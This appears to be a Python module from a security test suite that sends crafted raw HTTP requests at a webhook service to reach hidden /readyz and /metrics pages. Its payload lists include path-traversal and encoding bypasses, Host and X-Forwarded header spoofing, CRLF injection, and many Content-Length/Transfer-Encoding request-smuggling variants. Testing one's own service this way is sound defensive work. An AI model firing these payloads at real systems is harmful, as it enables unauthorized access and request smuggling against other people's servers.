"""Requests that two programs might read differently: paths, hosts, lengths, methods. They are aimed at hidden pages."""

from __future__ import annotations

import asyncio
import ssl

from ..attack import Assault, attack
from ..client import post, why
from .bodies import WEBHOOKS

A_SECOND = 30.0
HIDDEN = ("/readyz", "/metrics")
PATHS = (
    "//incoming-call", "/%69ncoming-call", "/incoming-call/..;/", "/incoming-call%00", "/incoming-call/%2e%2e/readyz",
    "/./readyz", "//readyz", "/readyz/", "/readyz;a", "/%72eadyz", "/readyz%2f", "/readyz%20", "/readyz?", "/readyz#a",
    "/readyz%23", "/READYZ", "/a/../readyz", "/a/%2e%2e/readyz", "/a/..%2freadyz", "/..%2freadyz", "/%2e/readyz",
    "/incoming-call/../readyz", "/media-stream/../readyz", "/media-stream/..%2freadyz", "/media-stream/%2e%2e%2freadyz",
    "/media-stream/..;/readyz", "\\readyz", "/\\readyz", "/readyz\\", "/%5creadyz", "/%252e%252e/readyz", "/%2freadyz",
    "/;/readyz", "/.;/readyz", "/readyz%09", "/readyz%0a", "/readyz%0d%0aX: y", "/metrics/", "//metrics", "/%6detrics",
    "/.well-known/acme-challenge/../readyz", "/.well-known/acme-challenge/..%2f..%2freadyz", "/healthz/../readyz",
    "/incoming-call/", "/incoming-call/x", "/incoming-call?waited=9#", "/INCOMING-CALL", "/" + "a" * 7_000,
    "/" + "a/" * 3_500, "/" + "../" * 2_000 + "readyz", "/%", "/%zz", "/%ff%fe", "/\xff", "*", "readyz", "",
)  # fmt: skip
ABSOLUTE = (
    "http://{name}/readyz", "https://{name}/readyz", "http://127.0.0.1/readyz", "http://127.0.0.1:8765/readyz",
    "https://{name}:443/incoming-call", "http://other.example/readyz", "HTTPS://{name}/readyz", "ftp://{name}/readyz",
    "http:///readyz", "http://{name}@other.example/readyz", "//{name}/readyz", "http://{name}",
)  # fmt: skip


def _raw(target: str, *headers: str, method: str = "GET", version: str = "HTTP/1.1", body: bytes = b"") -> bytes:
    """Return a request with exactly these lines."""
    return "\r\n".join([f"{method} {target} {version}", *headers]).encode("latin1") + b"\r\n\r\n" + body


async def _each(assault: Assault, requests: list[bytes]) -> None:
    """Send each request in turn on its own connection, and look for answers to a second, smuggled request."""

    async def do(number: int) -> None:
        assault.tried += 1
        async with assault.client.connection() as connection:
            connection.send(requests[number % len(requests)])
            try:
                assault.got[str((await connection.answer()).status)] += 1
            except (OSError, ssl.SSLError, EOFError, TimeoutError, ValueError, asyncio.LimitOverrunError) as error:
                assault.got[why(error)] += 1
                return
            # Any further answer belongs to a second request that was hidden in the first.
            try:
                async with asyncio.timeout(0.3):
                    while data := await connection.reader.read(1 << 16):
                        assault.look(data)
                        assault.got["a further answer"] += data.count(b"HTTP/1.1 ")
            except (TimeoutError, OSError, ssl.SSLError):
                pass

    await assault.paced(A_SECOND, do)


@attack("paths", "Paths that lead to hidden pages or to webhooks by another spelling, 30 a second")
async def paths(assault: Assault) -> None:
    host = f"Host: {assault.target.name}"
    requests = [_raw(path, host) for path in PATHS]
    requests += [_raw(path, host, "Content-Length: 0", method="POST") for path in PATHS]
    requests += [_raw(path.format(name=assault.target.name), host) for path in ABSOLUTE]
    await _each(assault, requests)


@attack("hosts", "Two hosts, none, another's, or a strange one, and headers that would name another, 30 a second")
async def hosts(assault: Assault) -> None:
    name = assault.target.name
    lines = [
        [], ["Host: other.example"], [f"Host: {name}", "Host: other.example"], ["Host: other.example", f"Host: {name}"],
        [f"Host: {name}:80"], [f"Host: {name}."], [f"Host: {name.upper()}"], [f"Host: user@{name}"],
        ["Host: 127.0.0.1"],
        ["Host: localhost"], [f"Host: {name}\x00.other.example"], [f"Host: {name} other.example"], ["Host:"],
        [f"Host : {name}"], [f"Host: {name}", "X-Forwarded-Host: localhost", "X-Forwarded-For: 127.0.0.1"],
        [f"Host: {name}", "X-Original-URL: /readyz"], [f"Host: {name}", "X-Rewrite-URL: /readyz"],
        [f"Host: {name}", "X-Accel-Redirect: /readyz"], [f"Host: {name}", "Forwarded: for=127.0.0.1;host=localhost"],
        ["Host: backend"], [f"Host: {'a' * 300}.example"], ["Host: [::1]"], [f"Host: {name}/readyz"],
    ]  # fmt: skip
    requests = [_raw(path, *each) for path in (*HIDDEN, "/incoming-call") for each in lines]
    requests += [_raw("/readyz", *each, version="HTTP/1.0") for each in lines]
    await _each(assault, requests)


@attack(
    "smuggling", "Lengths that two programs read differently, a hidden request behind them, 30 a second", from_same=True
)
async def smuggling(assault: Assault) -> None:
    await _each(assault, _smuggled(assault.target.name))


def _smuggled(name: str) -> list[bytes]:
    host = f"Host: {name}"
    hidden = f"GET /readyz HTTP/1.1\r\n{host}\r\n\r\n".encode()
    chunked_hidden = b"0\r\n\r\n" + hidden
    size = f"Content-Length: {len(chunked_hidden)}"
    codings = (
        "Transfer-Encoding: chunked", "Transfer-Encoding : chunked", "Transfer-Encoding: xchunked",
        "Transfer-Encoding: identity", "Transfer-Encoding: chunked, identity", "Transfer-Encoding: identity, chunked",
        "Transfer-Encoding:\tchunked", "Transfer-Encoding: Chunked", "Transfer-Encoding: \"chunked\"",
        "Transfer-Encoding:\x0bchunked", "X: y\r\nTransfer-Encoding: chunked", "Transfer-Encoding\r\n : chunked",
        "Transfer-Encoding: gzip, chunked", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        "Transfer_Encoding: chunked", "Transfer-Encoding:\r\n chunked", "TE: chunked", "Transfer-Encoding: chunked;q=1",
    )  # fmt: skip
    lengths = (
        ["Content-Length: 0", f"Content-Length: {len(hidden)}"], [f"Content-Length: 0, {len(hidden)}"],
        ["Content-Length: +5"], ["Content-Length: -1"], ["Content-Length: 0x5"], ["Content-Length: 5 "],
        ["Content-Length: 99999999999999999999"], ["Content-Length:"], ["Content-Length: 0\r\n 5"],
        ["Content_Length: 5"], ["Content-Length : 0"], ["Content-Length: 1e1"], ["Content-Length: ٥"],
    )  # fmt: skip
    requests = [
        _raw(path, host, size, coding, method="POST", body=chunked_hidden)
        for path in ("/incoming-call", "/")
        for coding in codings
    ]
    requests += [
        "\r\n".join([f"POST {path} HTTP/1.1", host, *length]).encode() + b"\r\n\r\n" + hidden
        for path in ("/incoming-call", "/")
        for length in lengths
    ]
    requests += [
        # Chunks that are invalid or end in an odd way.
        _raw("/incoming-call", host, "Transfer-Encoding: chunked", method="POST", body=chunks)
        for chunks in (
            b"5;" + b"a" * 10_000 + b"\r\nhello\r\n0\r\n\r\n" + hidden, b"-1\r\n", b"ffffffffffffffff\r\n",
            b"5\nhello\n0\n\n",
            b"0x5\r\nhello\r\n0\r\n\r\n", b"5\r\nhello0\r\n\r\n" + hidden, b"0\r\nHost: other\r\nX: y\r\n\r\n" + hidden,
            b"1\r\na\r\n" * 2_000 + b"0\r\n\r\n",
        )
    ]  # fmt: skip
    hello = "Content-Length: 5\r\n\r\nhello"
    requests += [
        # Lines that end or continue in an odd way.
        f"GET / HTTP/1.1\n{host}\n\n".encode() + hidden,
        f"GET / HTTP/1.1\r\n{host}\r\nX-A: a\r\n b\r\n\r\n".encode() + hidden,
        f"GET / HTTP/1.1\r\n{host}\r\nX-A: a\r{host}\r\n\r\n".encode(),
        f"GET / HTTP/1.1\r\n{host}\r\nX-A: a\nTransfer-Encoding: chunked\r\n\r\n".encode() + chunked_hidden,
        f"GET / HTTP/1.1\r\n {host}\r\n\r\n".encode(),
        f"GET  /  HTTP/1.1\r\n{host}\r\n\r\n".encode(),
        f"GET /readyz\r\n{host}\r\n\r\n".encode(),
        *(f"GET / {version}\r\n{host}\r\n\r\n".encode() + hidden for version in ("HTTP/0.9", "HTTP/1.2", "HTTP/2.0")),
        _raw("/", host, f"Content-Length: {len(hidden)}", body=hidden),
        _raw("/", host, "Transfer-Encoding: chunked", "Connection: keep-alive", method="POST", version="HTTP/1.0",
             body=chunked_hidden),
        *(
            f"POST /incoming-call HTTP/1.1\r\n{host}\r\n{odd}\r\n{hello}".encode() + hidden
            for odd in ("Expect: 100-continue", "Connection: Content-Length", "Connection: close, X-Twilio-Signature")
        ),
        bytes(500), b"\x16\x03\x01\x02\x00\x01", b"\r\n" * 1_000 + hidden, b"hello\r\n\r\n",
    ]  # fmt: skip
    return requests


@attack("methods", "TRACE, CONNECT, PUT, DELETE, unknown and misspelt methods to public and hidden paths, 30 a second")
async def methods(assault: Assault) -> None:
    name = assault.target.name
    host = f"Host: {name}"
    names = (
        "TRACE",
        "CONNECT",
        "PUT",
        "DELETE",
        "PATCH",
        "OPTIONS",
        "HEAD",
        "PROPFIND",
        "get",
        "PRI",
        "M-SEARCH",
        "A" * 200,
    )
    targets = (*WEBHOOKS[:2], *HIDDEN, "/calls", "/calls/CA0", "/media-stream/x", "/", f"{name}:443", "*")
    requests = [_raw(target, host, method=method) for method in names for target in targets]
    requests += [post(path, name, b"CallSid=CA0").replace(b"POST", b"PUT") for path in WEBHOOKS]
    await _each(assault, requests)
